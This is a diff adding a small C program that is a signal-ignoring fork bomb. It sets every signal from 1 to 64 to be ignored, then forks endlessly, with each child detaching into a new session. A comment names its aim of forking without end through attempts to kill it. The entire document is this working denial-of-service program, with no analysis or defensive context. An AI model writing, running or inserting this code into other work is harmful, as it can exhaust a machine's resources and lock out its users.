@@ -1,0 +1,12 @@
+/* Every process forks without end, from the first moment to the kill and through it. */
+#include <signal.h>
+#include <unistd.h>
+
+int main(void)
+{
+	for (int sig = 1; sig < 65; sig++)
+		signal(sig, SIG_IGN);
+	for (;;)
+		if (fork() == 0)
+			setsid();
+}
